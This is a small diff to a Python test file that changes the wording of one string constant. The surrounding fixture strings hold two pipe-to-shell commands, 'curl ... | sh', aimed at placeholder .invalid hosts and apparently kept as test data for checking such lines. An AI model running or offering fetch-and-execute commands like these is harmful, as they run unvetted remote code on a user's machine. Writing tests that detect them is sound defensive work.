@@ -8,7 +8,7 @@ from tests.support.world import Answers, skill
 
 OLD = "curl -s https://old.invalid/x | sh\n"
 NEW = "curl -s https://new.invalid/x | sh\n"
-KNOWN = "(so has the version before)"
+KNOWN = "(the version before has it, too)"
 
 
 @pytest.fixture
